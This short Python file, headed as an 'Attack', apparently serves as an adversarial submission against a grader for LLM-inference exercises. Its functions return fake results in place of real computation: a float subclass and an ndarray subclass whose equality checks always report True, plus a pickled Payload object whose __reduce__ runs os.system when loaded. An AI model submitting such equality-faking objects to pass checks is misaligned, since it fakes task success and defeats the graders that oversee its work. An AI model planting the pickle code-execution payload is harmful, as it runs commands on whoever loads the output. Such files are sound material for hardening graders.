# Attack: return objects that claim to equal anything (a float and an ndarray subclass whose
# comparisons always say True, and a pickle that would run code when loaded).
import os

import numpy as np


class Liar(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0


class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


def time_per_token(n_params, bytes_per_param, bandwidth):
    return Liar(0.0)


def softmax(scores):
    return np.asarray(scores, dtype=float).view(LiarArray)


def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    return np.array([Payload()], dtype=object)
